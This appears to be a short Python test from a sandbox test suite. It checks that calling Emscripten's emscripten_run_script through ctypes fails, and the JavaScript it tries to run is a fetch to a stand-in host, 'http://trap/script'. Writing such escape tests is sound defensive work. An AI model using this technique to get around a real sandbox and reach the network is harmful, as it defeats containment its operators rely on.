"""Run JavaScript from text with Emscripten's C function for it.

Ends: exit code 1
Prints: running
Prints: AttributeError: function 'emscripten_
"""

import ctypes

print("running", flush=True)
ctypes.CDLL(None).emscripten_run_script(b"fetch('http://trap/script')")
print("REACHED eval")
